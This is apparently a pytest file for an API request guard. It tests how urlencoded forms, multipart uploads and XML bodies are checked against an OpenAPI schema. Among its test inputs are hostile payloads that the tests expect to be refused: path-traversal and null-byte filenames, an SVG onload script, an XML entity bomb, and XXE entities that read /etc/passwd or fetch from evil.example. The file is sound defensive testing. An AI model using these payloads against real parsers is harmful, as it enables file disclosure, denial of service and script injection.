"""Forms, files and XML: what goes on of them, and the attacks that go no further."""

from __future__ import annotations

import json
from email import policy
from email.parser import BytesParser
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ninefold.contract.openapi import read
from ninefold.contract.requests import Requests
from ninefold.guard.answer import Answer
from ninefold.guard.bodies.magic import contradicts
from ninefold.guard.bodies.multipart import Multipart
from ninefold.guard.entrance import Entrance
from ninefold.guard.foreign import Malformed
from ninefold.guard.need import Need

PROFILE: dict[str, Any] = {
    "type": "object",
    "required": ["name"],
    "properties": {
        "name": {"type": "string", "maxLength": 10},
        "age": {"type": "integer", "minimum": 0},
        "tags": {"type": "array", "items": {"type": "string"}},
        "id": {"type": "integer", "readOnly": True},
        "photo": {"type": "string", "format": "binary"},
        "about": {"type": "object", "properties": {"city": {"type": "string"}}},
    },
}
FORM, PARTS = "application/x-www-form-urlencoded", "multipart/form-data"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20


@pytest.fixture
def sent(make_guard: Any, ask: Any) -> Any:
    """What goes on of a body and how much stayed behind, or the status and the errors."""

    def send(
        content: bytes,
        media: str,
        *,
        settings: Any = None,
        declared: str = "",
        encoding: Any = None,
        schema: Any = PROFILE,
    ) -> Any:
        declared = declared or media.partition(";")[0]
        operation = {
            "operationId": "make",
            "requestBody": {"content": {declared: {"schema": schema, **({"encoding": encoding} if encoding else {})}}},
            "responses": {"204": {"description": "-"}},
        }
        document = {"openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "paths": {"/p": {"post": operation}}}
        guard = make_guard(document, requests=settings or {})
        request = ask("/p", "writer", "POST", body=len(content), content_type=media)
        decision = guard.admit(request)
        if decision is Need.BODY:
            request.content = content
            decision = guard.admit(request)
        if isinstance(decision, Answer):
            assert b"hunter2" not in decision.body + decision.reason.encode()
            return decision.status, [
                (one["pointer"], one["detail"]) for one in json.loads(decision.body).get("errors", [])
            ]
        return request.content, request.dropped

    return send


# -- forms


def test_of_a_form_goes_on_what_is_declared_to_the_byte(sent: Any) -> None:
    assert sent(b"name=J%61ne+D&age=7&tags=a&tags=b%2Cc", FORM) == (b"name=J%61ne+D&age=7&tags=a&tags=b%2Cc", 0)
    assert sent(b"name=a&is_admin=true&id=7&%69d=8", FORM) == (b"name=a", 2)
    assert sent(b"name=a&is_admin=true", FORM, settings={"undeclared": "refuse"}) == (
        422,
        [("#/is_admin", "is not declared")],
    )
    assert sent(b"name=a&is_admin=true", FORM, settings={"undeclared": "report"}) == (b"name=a&is_admin=true", 1)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"age=7", [("#", "has no member `name`")]),
        (b"name=a&age=x", [("#/age", "is not of the type integer")]),
        (b"name=a&age=1&age=2", [("#/age", "came more than once")]),
        (b"name=hunter2hunter2", [("#/name", "must have at most 10 characters")]),
    ],
)
def test_each_field_is_as_its_schema_says(sent: Any, content: bytes, told: Any) -> None:
    assert sent(content, FORM) == (422, told)


@pytest.mark.parametrize(
    "content", [b"name=a;age=1", b"name=%zz", b"name=%ff", b"name=\xe9", b"name=" + b"&x" * 60_000]
)
def test_a_form_that_servers_read_in_several_ways_is_refused(sent: Any, content: bytes) -> None:
    assert sent(content, FORM)[0] == 400


def test_arrays_are_written_as_their_encoding_says(sent: Any) -> None:
    encoding = {"tags": {"style": "form", "explode": False}}
    schema = {"type": "object", "properties": {"tags": {"type": "array", "items": {"type": "integer"}, "maxItems": 2}}}
    assert sent(b"tags=1,2", FORM, encoding=encoding, schema=schema) == (b"tags=1,2", 0)
    assert sent(b"tags=1,2,3", FORM, encoding=encoding, schema=schema)[0] == 422
    assert sent(b"tags=1,x", FORM, encoding=encoding, schema=schema)[0] == 422


# -- parts


def multipart(*parts: tuple[str, bytes], boundary: str = "X") -> tuple[bytes, str]:
    text = b"".join(
        b"--" + boundary.encode() + b"\r\n" + head.encode() + b"\r\n\r\n" + data + b"\r\n" for head, data in parts
    )
    return text + b"--" + boundary.encode() + b"--\r\n", f"{PARTS}; boundary={boundary}"


def part(name: str, data: bytes = b"a", more: str = "") -> tuple[str, bytes]:
    return f'Content-Disposition: form-data; name="{name}"{more}', data


def test_of_parts_go_on_those_that_are_declared(sent: Any) -> None:
    content, media = multipart(
        part("name"),
        part("tags", b"x"),
        part("tags", b"y"),
        part("photo", PNG, '; filename="a.png"\r\nContent-Type: image/png'),
    )
    assert sent(content, media) == (content, 0)
    more, media = multipart(part("name"), part("is_admin", b"true"), part("id", b"7"))
    assert sent(more, media) == (multipart(part("name"))[0], 2)
    assert sent(more, media, settings={"undeclared": "refuse"})[0] == 422


def test_parts_are_as_their_schema_and_their_type_say(sent: Any) -> None:
    assert sent(*multipart(part("age", b"7"))) == (422, [("#", "has no member `name`")])
    assert sent(*multipart(part("name"), part("age", b"x"))) == (422, [("#/age", "is not of the type integer")])
    assert sent(*multipart(part("name"), part("name"))) == (422, [("#/name", "came more than once")])
    about = "\r\nContent-Type: application/json"
    assert sent(*multipart(part("name"), part("about", b'{"city":"x"}', about)))[1] == 0
    assert sent(*multipart(part("name"), part("about", b'{"city":1}', about))) == (
        422,
        [("#/about/city", "is not of the type string")],
    )
    assert sent(*multipart(part("name"), part("about", b'{"city":"x","city":"y"}', about)))[0] == 400


def test_a_file_is_of_a_type_that_is_declared_and_of_no_other(sent: Any) -> None:
    encoding = {"photo": {"contentType": "image/png, image/jpeg"}}

    def file(data: bytes, kind: str) -> Any:
        head = f'; filename="a.png"\r\nContent-Type: {kind}'
        return sent(*multipart(part("name"), part("photo", data, head)), encoding=encoding)

    assert file(PNG, "image/png")[1] == 0
    assert file(PNG, "image/gif") == (422, [("#/photo", "must come as image/png or image/jpeg")])
    for data in (b"GIF89a", b"<svg onload=alert(1)>", b"MZ\x90", b"#!/bin/sh", b"", b"\xff\xd8\xff"):
        assert file(data, "image/png") == (422, [("#/photo", "is not what it says it is (image/png)")])


@pytest.mark.parametrize(
    "head",
    [
        'Content-Disposition: form-data; name="name"; name="age"',
        'Content-Disposition: form-data; name="name"\r\nContent-Disposition: form-data; name="age"',
        "Content-Disposition: form-data; name=name",
        "Content-Disposition: form-data; name*=UTF-8''name",
        'Content-Disposition: form-data; name="name"; filename="../../etc/passwd"',
        'Content-Disposition: form-data; name="name"; filename="C:\\\\boot.ini"',
        'Content-Disposition: form-data; name="name"; filename="a\x00.png"',
        'Content-Disposition: form-data; name="name"; filename=".."',
        'Content-Disposition: form-data; name="name"; filename="a"; filename*=UTF-8\'\'b.php',
        'Content-Disposition: form-data; name="name"; filename="a"; filename="b"',
        'Content-Disposition: attachment; name="name"',
        'Content-Disposition: form-data; name=""',
        "Content-Disposition: form-data",
        "Content-Type: text/plain",
        'Content-Disposition: form-data; name="name"\r\nContent-Transfer-Encoding: base64',
        'Content-Disposition: form-data; name="name"\r\nX-Other: 1',
        'Content-Disposition: form-data; name="name"\r\n folded',
        'Content-Disposition : form-data; name="name"',
        'Content-Disposition: form-data; name="name"\nX: y',
    ],
)
def test_a_part_that_servers_read_in_several_ways_is_refused(sent: Any, head: str) -> None:
    assert sent(*multipart((head, b"a")))[0] == 400


@pytest.mark.parametrize(
    ("content", "media"),
    [
        (multipart(part("name"))[0], PARTS),
        (multipart(part("name"))[0], f"{PARTS}; boundary=X; boundary=Y"),
        (multipart(part("name"))[0], f"{PARTS}; boundary=X; charset=utf-7"),
        (multipart(part("name"))[0], f"{PARTS}; boundary*=X"),
        (multipart(part("name"))[0], f"{PARTS}; boundary=Y"),
        (multipart(part("name"))[0], f'{PARTS}; boundary="X '),
        (b"preamble\r\n" + multipart(part("name"))[0], f"{PARTS}; boundary=X"),
        (multipart(part("name"))[0] + b"epilogue", f"{PARTS}; boundary=X"),
        (multipart(part("name"))[0][:-6], f"{PARTS}; boundary=X"),
        (multipart(part("name"))[0].replace(b"\r\n", b"\n"), f"{PARTS}; boundary=X"),
        (multipart(part("name", b"a\r\n--X--\r\nb"))[0], f"{PARTS}; boundary=X"),
        (multipart(part("name", b"--X in a part"))[0], f"{PARTS}; boundary=X"),
        (multipart(*[part("tags")] * 1100)[0], f"{PARTS}; boundary=X"),
        (multipart((part("name")[0] + "\r\nContent-Type: " + "x" * 3000, b"a"))[0], f"{PARTS}; boundary=X"),
        (b"", f"{PARTS}; boundary=X"),
        (b"--X--\r\n", f"{PARTS}; boundary=" + "X" * 71),
    ],
)
def test_a_body_whose_parts_can_be_read_in_several_ways_is_refused(sent: Any, content: bytes, media: str) -> None:
    found = sent(content, media)
    assert found[0] in {400, 422} or (content, found) == (b"", (None, 0)), found


NAMES = st.text(
    st.characters(codec="utf-8", exclude_characters='"\r\n\\/\0', exclude_categories=("Cc", "Cs")),
    min_size=1,
    max_size=8,
)


@given(st.dictionaries(st.sampled_from(["name", "note", "more"]), st.binary(max_size=40), min_size=1), NAMES)
def test_what_is_accepted_another_parser_reads_alike(fields: dict[str, bytes], file: str) -> None:
    request = httpx.Request(
        "POST", "http://x", files=[(name, (file if name == "more" else None, data)) for name, data in fields.items()]
    )
    media, content = request.headers["content-type"], request.read()
    schema = {"type": "object", "properties": {name: {} for name in ("name", "note", "more")}}
    description = read({"openapi": "3.1.0", "info": {}, "paths": {}}, "d")
    try:
        kept, flaws = Multipart(schema, {}, Entrance(description, Requests()))(content, media)
    except Malformed:
        return
    assert kept.content == content
    parsed = BytesParser(policy=policy.HTTP).parsebytes(f"Content-Type: {media}\r\n\r\n".encode() + content)
    told = {
        one.get_param("name", header="content-disposition"): one.get_payload(decode=True) for one in parsed.iter_parts()
    }
    assert flaws or set(told) == set(fields)


# -- XML


@pytest.mark.parametrize(
    "content",
    [
        b"<a/>",
        b'<?xml version="1.0" encoding="UTF-8"?>\n<a b="c">&lt;&#65;<d/></a>',
        "<é>ü</é>".encode(),
        b"<a><![CDATA[<b>]]></a>",
    ],
)
def test_plain_xml_goes_on_as_it_came(sent: Any, content: bytes) -> None:
    for media in ("application/xml", "text/xml", "application/soap+xml"):
        assert sent(content, media) == (content, 0)


BOMB = (
    b'<!DOCTYPE a [<!ENTITY a "aa">' + b"".join(b'<!ENTITY a%d "&a;&a;">' % one for one in range(9)) + b"]><a>&a8;</a>"
)


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', BOMB,
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>', b"<!doctype a><a/>", b"<a>&x;</a>",
        b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example"?><a/>', b'<?xml version="1.0" encoding="UTF-7"?><a/>',
        b'<?xml version="1.1"?><a/>', '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"), b"\xef\xbb\xbf<a/>", b"<a>", b"", b"<a/><b/>",
        b"<a>" * 100 + b"</a>" * 100, b"<a>" + b"<b/>" * 60_000 + b"</a>", b"<a " + b" ".join(b'a%d="1"' % one for one in range(200)) + b"/>",
        b'<a b="1" b="2"/>', b"<a>\xff</a>", b"<a>\x00</a>", b"{}",
    ],
)  # fmt: skip
def test_xml_that_reads_more_than_itself_or_is_none_is_refused(sent: Any, content: bytes) -> None:
    found = sent(content, "application/xml")
    assert found[0] == 400 or (content, found) == (b"", (None, 0)), found


def test_xml_is_refused_where_it_is_not_declared_and_read_where_a_range_takes_it_in(sent: Any) -> None:
    assert sent(b"<a/>", "application/xml", declared="application/json")[0] == 415
    assert sent(b"<!DOCTYPE a><a/>", "application/xml", declared="*/*")[0] == 400
    assert sent(b"<a/>", "application/xml", declared="*/*") == (b"<a/>", 0)


def test_files_are_told_by_how_they_begin() -> None:
    assert not contradicts("image/png", PNG)
    assert contradicts("image/svg+xml; x=y", b"") is False
    assert contradicts("text/plain", b"  <HTML>")
    assert contradicts("application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"MZ")
    assert not contradicts("application/octet-stream", b"MZ")
